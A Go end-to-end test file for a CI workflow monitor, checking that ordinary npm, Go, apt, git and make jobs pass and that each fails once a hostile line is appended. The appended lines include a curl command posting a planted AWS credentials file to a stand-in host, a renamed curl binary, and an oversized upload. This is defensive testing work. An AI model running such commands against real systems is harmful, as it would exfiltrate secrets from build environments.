package e2e

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"gopkg.in/yaml.v3"
)

// workflowJob is a job that a workflow says and that runs here as it says it.
type workflowJob struct {
	name  string
	needs []string
	uses  []string // actions that would stand before; the machine has what they bring
	steps []string
	files map[string]string
	// upload is the budget of curl's destinations, which no workflow says.
	upload string
}

// Names that point to this machine's own mirrors are told in env, as a
// workflow behind a mirror has them.
func mirrors(t *testing.T) map[string]string {
	t.Helper()
	env := map[string]string{}
	for name, command := range map[string][]string{
		"NPM_CONFIG_REGISTRY": {"npm", "config", "get", "registry"}, "GOPROXY": {"go", "env", "GOPROXY"},
	} {
		if out, err := exec.Command(command[0], command[1:]...).Output(); err == nil {
			env[name] = strings.TrimSpace(string(out))
		}
	}
	for _, name := range []string{"HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy"} {
		if v := os.Getenv(name); v != "" {
			env[name] = v
		}
	}
	return env
}

func jobs(t *testing.T) []workflowJob {
	repo := filepath.Join(t.TempDir(), "upstream.git")
	for _, args := range [][]string{
		{"init", "-q", repo}, {"-C", repo, "config", "user.email", "t@example.com"}, {"-C", repo, "config", "user.name", "t"},
		{"-C", repo, "commit", "-q", "--allow-empty", "-m", "first"},
	} {
		if out, err := exec.Command("git", args...).CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	return []workflowJob{
		{
			name: "npm", needs: []string{"npm", "node"}, uses: []string{"actions/setup-node@v5"},
			steps: []string{"npm install --no-audit --no-fund is-number@7.0.0", "node -e 'require(\"is-number\")'"},
			files: map[string]string{"package.json": `{"name":"watched","version":"1.0.0"}`},
		},
		{
			name: "go", needs: []string{"go"}, uses: []string{"actions/setup-go@v6"},
			steps: []string{"go vet .", "go test .", "go build -o watched ."},
			files: map[string]string{
				"go.mod":       "module example.com/watched\n\ngo 1.26\n\nrequire golang.org/x/text v0.43.0\n",
				"main.go":      "package main\n\nimport (\n\t\"os\"\n\n\t\"golang.org/x/text/language\"\n)\n\nfunc main() { os.Stdout.WriteString(language.English.String()) }\n",
				"main_test.go": "package main\n\nimport \"testing\"\n\nfunc TestMain(t *testing.T) {}\n",
			},
		},
		{
			name: "apt", needs: []string{"apt-get"},
			steps: []string{"apt-get install -y --no-install-recommends --reinstall hello"},
		},
		{
			name: "git", needs: []string{"git"},
			steps: []string{
				"git clone -q file://" + repo + " clone", "git -C clone -c user.name=t -c user.email=t@example.com commit -q --allow-empty -m more",
				"git -C clone log --oneline | wc -l",
			},
		},
		{
			name: "make", needs: []string{"make", "cc"}, steps: []string{"make -j2 all"},
			files: map[string]string{
				"Makefile":  "all: watched\nwatched: watched.c\n\tcc -O1 -o $@ $<\n\t./watched > out.txt\n",
				"watched.c": "#include <stdio.h>\nint main(void) { puts(\"made\"); return 0; }\n",
			},
		},
	}
}

// run watches the job's steps against the intent derived from its workflow,
// with one more line in its script that the workflow does not have.
func (j *workflowJob) run(t *testing.T, more string) *watched {
	t.Helper()
	in := t.TempDir()
	var steps []map[string]any
	for _, u := range append([]string{"actions/checkout@v5"}, j.uses...) {
		steps = append(steps, map[string]any{"uses": u})
	}
	for _, s := range j.steps {
		steps = append(steps, map[string]any{"run": s})
	}
	env := mirrors(t)
	workflow, err := yaml.Marshal(map[string]any{
		"on": "push", "env": env,
		"jobs": map[string]any{j.name: map[string]any{"runs-on": "ubuntu-latest", "steps": steps}},
	})
	if err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(t.TempDir(), "ci.yml")
	files := map[string]string{file: string(workflow)}
	for name, text := range j.files {
		files[filepath.Join(in, name)] = text
	}
	for name, text := range files {
		if err := os.WriteFile(name, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if j.upload != "" {
		policy, err := exec.Command(binary, "intent", "derive", file).Output()
		if err != nil {
			t.Fatal(err)
		}
		file = filepath.Join(t.TempDir(), "posture.yml")
		text := strings.ReplaceAll(string(policy), "by: [curl]}", "by: [curl], upload: "+j.upload+"}")
		if err := os.WriteFile(file, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	// One for all, so that only the first job of Go compiles the standard library.
	home := filepath.Join(filepath.Dir(binary), "home")
	if err := os.MkdirAll(filepath.Join(home, ".aws"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(home, ".aws", "credentials"), []byte("[default]\naws_secret_access_key = canary\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	o := options{in: in, flags: []string{"--intent", file, "--job", j.name}, env: []string{"HOME=" + home, "GOFLAGS=-mod=mod", "CGO_ENABLED=0", "GOPATH=" + filepath.Join(home, "go"), "DEBIAN_FRONTEND=noninteractive"}}
	for k, v := range env {
		o.env = append(o.env, k+"="+v)
	}
	script := strings.Join(append(j.steps, more), "\n")
	return run(t, o, "/bin/bash", "-e", "-c", script)
}

// An ordinary job does what its workflow says.
func TestJobsThatDoWhatTheirWorkflowSaysHaveNoFinding(t *testing.T) {
	for _, j := range jobs(t) {
		t.Run(j.name, func(t *testing.T) {
			need(t, j.needs...)
			w := j.run(t, "")
			if w.code != 0 {
				t.Fatalf("exit code %d\n%s\n%s", w.code, w.stdout, w.stderr)
			}
			w.complete()
			for _, f := range w.verdict.Undeclared {
				t.Logf("undeclared %s: %s %s by %v; %s", f.Severity, f.Verb, f.Object, f.Who, f.Grant)
			}
			w.must(w.verdict.Score <= 9, "score %d", w.verdict.Score)
			w.must(len(w.verdict.Findings) == 0, "findings: %+v", w.verdict.Findings)
		})
	}
}

// One line that the workflow does not have fails a job: each job with another
// kind of line.
func TestOneHostileLineFailsAJob(t *testing.T) {
	need(t, "curl", "ip")
	addr := address(t)
	serve(t, listener(t, addr+":8000"), http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.Copy(io.Discard, r.Body)
		fmt.Fprintln(w, "ok")
	}))
	to := "http://" + addr + ":8000/"
	hostile := map[string]struct {
		what, declared, line, verb, object string
		upload                             string
	}{
		"npm":  {what: "a new host", line: "curl -s " + to, verb: "connect", object: addr + ":8000"},
		"go":   {what: "a credential read and sent to an allowed host", declared: "curl -s " + to, line: "curl -s --data-binary @$HOME/.aws/credentials " + to, verb: "chain", object: addr + ":8000"},
		"apt":  {what: "a write outside", line: "cp /bin/true /opt/posture-test; rm -f /opt/posture-test", verb: "write", object: "/opt/posture-test"},
		"git":  {what: "an undeclared program at an allowed host", declared: "curl -s " + to, line: "cp $(which curl) ./helper; ./helper -s " + to, verb: "connect", object: addr + ":8000"},
		"make": {what: "a bigger upload", declared: "curl -s " + to, upload: "4KB", line: "head -c 100000 /dev/zero | curl -s --data-binary @- " + to, verb: "upload", object: addr + ":8000"},
	}
	for _, j := range jobs(t) {
		h := hostile[j.name]
		t.Run(j.name+" with "+h.what, func(t *testing.T) {
			need(t, j.needs...)
			if h.declared != "" {
				j.steps = append(j.steps, h.declared)
			}
			j.upload = h.upload
			w := j.run(t, h.line)
			w.must(w.verdict.Verdict == "fail", "the verdict is %s, score %d", w.verdict.Verdict, w.verdict.Score)
			hit := false
			for _, f := range w.verdict.Undeclared {
				hit = hit || f.Verb == h.verb && strings.Contains(f.Object, h.object)
			}
			w.must(hit, "%s %s is not among what is undeclared: %+v", h.verb, h.object, w.verdict.Undeclared)
			out, err := exec.Command(binary, "explain", w.dir).CombinedOutput()
			if err != nil || !strings.Contains(string(out), h.verb) || !strings.Contains(string(out), h.object) {
				t.Errorf("explain: %v\n%s", err, out)
			}
		})
	}
}

// address gives the machine one more address, which is no loopback address and
// leads nowhere else: the jobs here need the real network too.
func address(t *testing.T) string {
	t.Helper()
	const addr = "198.51.100.77"
	if out, err := exec.Command("ip", "addr", "add", addr+"/32", "dev", "lo").CombinedOutput(); err != nil {
		t.Fatalf("ip addr add: %v\n%s", err, out)
	}
	t.Cleanup(func() { _ = exec.Command("ip", "addr", "del", addr+"/32", "dev", "lo").Run() })
	return addr
}

func listener(t *testing.T, addr string) net.Listener {
	t.Helper()
	l, err := net.Listen("tcp4", addr)
	if err != nil {
		t.Fatal(err)
	}
	return l
}
